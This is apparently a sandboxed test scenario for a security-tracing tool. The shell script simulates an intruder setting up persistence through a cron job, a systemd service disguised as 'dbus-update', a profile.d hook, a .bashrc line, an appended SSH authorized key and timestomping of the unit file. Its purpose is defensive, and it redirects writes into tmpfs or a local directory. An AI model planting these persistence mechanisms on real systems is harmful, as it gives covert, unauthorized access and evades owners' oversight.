#!/bin/sh
# Persistence scenario (scapkit sample trace). Run by sample_traces/scenarios.py in a private
# temporary directory.
#
# The intruder installs ways back in: a cron job in /etc/cron.d, a systemd service enabled for
# multi-user.target, a login hook in /etc/profile.d, a line in ~/.bashrc and an SSH key in
# ~/.ssh/authorized_keys, and back-dates the unit file with touch -r.
# /etc/cron.d, /etc/systemd/system and /etc/profile.d are empty tmpfs mounts in a private mount
# namespace, so the real directories are never touched (without unshare the files go under
# ./root instead). $HOME is ./home.
set -u
cd "$(dirname "$0")" || exit 1
if [ -z "${SCN_NS:-}" ]; then
	if unshare --mount --propagation private true 2>/dev/null; then
		SCN_NS=mount exec unshare --mount --propagation private sh "$0" "$@"
	fi
	SCN_NS=none exec sh "$0" "$@"
fi
R=""
if [ "$SCN_NS" = mount ]; then
	for d in /etc/cron.d /etc/systemd/system /etc/profile.d; do
		mount -t tmpfs -o mode=0755,size=1m scapkit-scenario "$d"
	done
else
	R=$(pwd)/root
	mkdir -p "$R/etc/cron.d" "$R/etc/systemd/system" "$R/etc/profile.d"
fi
P=/usr/local/lib/.sysupdate/agent

cat > "$R/etc/cron.d/system-update" <<CRON
# m h dom mon dow user command
*/5 * * * * root $P >/dev/null 2>&1
CRON
chmod 0644 "$R/etc/cron.d/system-update"

cat > "$R/etc/systemd/system/dbus-update.service" <<UNIT
[Unit]
Description=D-Bus update helper

[Service]
ExecStart=$P
Restart=always

[Install]
WantedBy=multi-user.target
UNIT
mkdir -p "$R/etc/systemd/system/multi-user.target.wants"
ln -s "$R/etc/systemd/system/dbus-update.service" "$R/etc/systemd/system/multi-user.target.wants/dbus-update.service"
touch -r /etc/hostname "$R/etc/systemd/system/dbus-update.service"

echo "( $P & ) >/dev/null 2>&1" > "$R/etc/profile.d/zz-update.sh"

echo "( $P & ) >/dev/null 2>&1" >> "$HOME/.bashrc"
mkdir -p "$HOME/.ssh"
chmod 700 "$HOME/.ssh"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFake intruder@c2" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
ls -la "$R/etc/cron.d" "$R/etc/systemd/system/multi-user.target.wants"
